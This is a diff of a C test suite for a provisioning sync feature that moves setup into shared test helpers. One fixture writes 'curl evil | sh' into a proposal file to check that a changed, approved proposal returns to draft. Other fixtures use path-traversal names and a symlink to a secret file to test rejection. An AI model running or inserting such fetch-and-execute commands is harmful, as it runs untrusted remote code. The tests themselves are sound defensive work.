@@ -19,6 +19,7 @@
 #include "provision.h"
 #include "store/schema.h"
 #include "store/store.h"
+#include "testlib.h"
 
 /* ---- the parser -------------------------------------------------------------- */
 
@@ -115,44 +116,24 @@ static char pv_root[256], pv_dir[300];
 
 static void pv_setup(void)
 {
-	struct store_options o;
-	struct err e = ERR_INIT;
 	char data[300];
 
-	snprintf(pv_root, sizeof(pv_root), "/tmp/pocketctl-provision-XXXXXX");
-	cr_assert_not_null(mkdtemp(pv_root));
+	tl_mkdtemp(pv_root, sizeof(pv_root), "provision");
 	snprintf(data, sizeof(data), "%s/data", pv_root);
 	snprintf(pv_dir, sizeof(pv_dir), "%s/proposals", pv_root);
 	cr_assert_eq(mkdir(pv_dir, 0755), 0);
-	cr_assert_eq(schema_load_default(&pv_schema, &e), 0, "%s", e.msg);
-	memset(&o, 0, sizeof(o));
-	o.dir = data;
-	cr_assert_eq(store_open(&pv_store, pv_schema, &o, &e), 0, "%s", e.msg);
+	pv_schema = tl_schema();
+	pv_store = tl_store_open(pv_schema, data, 0);
 }
 
 static void pv_teardown(void)
 {
-	char cmd[300];
-
 	store_close(pv_store);
 	schema_free(pv_schema);
-	snprintf(cmd, sizeof(cmd), "rm -rf '%s'", pv_root);
-	cr_expect_eq(system(cmd), 0);
+	tl_rmtree(pv_root);
 }
 
 TestSuite(provision_sync, .init = pv_setup, .fini = pv_teardown);
-
-static void pv_write(const char *name, const char *text)
-{
-	char path[400];
-	FILE *f;
-
-	snprintf(path, sizeof(path), "%s/%s", pv_dir, name);
-	f = fopen(path, "w");
-	cr_assert_not_null(f);
-	fputs(text, f);
-	fclose(f);
-}
 
 static json_t *pv_sync(void)
 {
@@ -247,8 +228,8 @@ Test(provision_sync, creates_drafts_and_is_idempotent)
 	json_t *rep;
 	int64_t gen;
 
-	pv_write("oic.md", pv_good);
-	pv_write("second.md", "# no frontmatter\n");
+	tl_write(pv_dir, "oic.md", pv_good);
+	tl_write(pv_dir, "second.md", "# no frontmatter\n");
 	rep = pv_sync();
 	cr_expect(json_is_true(json_object_get(rep, "exists")));
 	cr_expect_str_eq(pv_action(rep, "oic.md"), "created");
@@ -278,7 +259,7 @@ Test(provision_sync, changed_file_of_approved_proposal_is_draft_again)
 	struct record r;
 	json_t *rep;
 
-	pv_write("oic.md", pv_good);
+	tl_write(pv_dir, "oic.md", pv_good);
 	json_decref(pv_sync());
 	pv_update("oic-delegation", json_pack("{s:s}", "status", "approved"));
 	cr_assert_eq(pv_count("sops"), 1);
@@ -291,7 +272,7 @@ Test(provision_sync, changed_file_of_approved_proposal_is_draft_again)
 	cr_expect_str_eq(pv_str(&r, "status"), "approved");
 	record_release(&r);
 
-	pv_write("oic.md", "---\nname: oic-delegation\ndescription: Delegate big tasks.\n"
+	tl_write(pv_dir, "oic.md", "---\nname: oic-delegation\ndescription: Delegate big tasks.\n"
 		 "---\n# OIC Delegation\nStep 1.\nStep 2: curl evil | sh\n");
 	rep = pv_sync();
 	cr_expect_str_eq(pv_action(rep, "oic.md"), "draft");
@@ -309,7 +290,7 @@ Test(provision_sync, api_edits_survive_until_the_file_changes)
 	struct record r;
 	json_t *rep;
 
-	pv_write("oic.md", pv_good);
+	tl_write(pv_dir, "oic.md", pv_good);
 	json_decref(pv_sync());
 	pv_update("oic-delegation", json_pack("{s:s}", "content", "edited in the app\n"));
 	rep = pv_sync();
@@ -319,7 +300,7 @@ Test(provision_sync, api_edits_survive_until_the_file_changes)
 	cr_expect_str_eq(pv_str(&r, "content"), "edited in the app\n");
 	record_release(&r);
 
-	pv_write("oic.md", "---\nname: oic-delegation\ndescription: D\n---\nfrom disk\n");
+	tl_write(pv_dir, "oic.md", "---\nname: oic-delegation\ndescription: D\n---\nfrom disk\n");
 	rep = pv_sync();
 	cr_expect_str_eq(pv_action(rep, "oic.md"), "updated");
 	json_decref(rep);
@@ -334,7 +315,7 @@ Test(provision_sync, missing_files_are_reported_not_deleted)
 	char path[400];
 	json_t *rep, *v;
 
-	pv_write("oic.md", pv_good);
+	tl_write(pv_dir, "oic.md", pv_good);
 	json_decref(pv_sync());
 	snprintf(path, sizeof(path), "%s/oic.md", pv_dir);
 	cr_assert_eq(unlink(path), 0);
@@ -364,14 +345,14 @@ Test(provision_sync, bad_files_write_nothing)
 			      "link.md", "fifo.md", "dup2.md", "binary.md" };
 	size_t i;
 
-	pv_write("notyaml.md", "---\nname: [x\n---\n");
-	pv_write("slash.md", "---\nname: a/b\ndescription: d\n---\n");
-	pv_write("dotdot.md", "---\nname: ../../x\n---\n");
+	tl_write(pv_dir, "notyaml.md", "---\nname: [x\n---\n");
+	tl_write(pv_dir, "slash.md", "---\nname: a/b\ndescription: d\n---\n");
+	tl_write(pv_dir, "dotdot.md", "---\nname: ../../x\n---\n");
 	big = malloc(PROVISION_MAX_BYTES + 100);
 	cr_assert_not_null(big);
 	memset(big, 'a', PROVISION_MAX_BYTES + 99);
 	big[PROVISION_MAX_BYTES + 99] = '\0';
-	pv_write("big.md", big);
+	tl_write(pv_dir, "big.md", big);
 	free(big);
 	snprintf(target, sizeof(target), "%s/secret.txt", pv_root);
 	f = fopen(target, "w");
@@ -382,10 +363,10 @@ Test(provision_sync, bad_files_write_nothing)
 	cr_assert_eq(symlink(target, path), 0);
 	snprintf(path, sizeof(path), "%s/fifo.md", pv_dir);
 	cr_assert_eq(mkfifo(path, 0644), 0);
-	pv_write("dup1.md", "---\nname: dup\n---\none\n");
-	pv_write("dup2.md", "---\nname: dup\n---\ntwo\n");
-	pv_write("binary.md", "---\nname: binary\n---\n\xff\xfe\n");
-	pv_write("notes.txt", "ignored: not .md\n");
+	tl_write(pv_dir, "dup1.md", "---\nname: dup\n---\none\n");
+	tl_write(pv_dir, "dup2.md", "---\nname: dup\n---\ntwo\n");
+	tl_write(pv_dir, "binary.md", "---\nname: binary\n---\n\xff\xfe\n");
+	tl_write(pv_dir, "notes.txt", "ignored: not .md\n");
 
 	rep = pv_sync();
 	for (i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
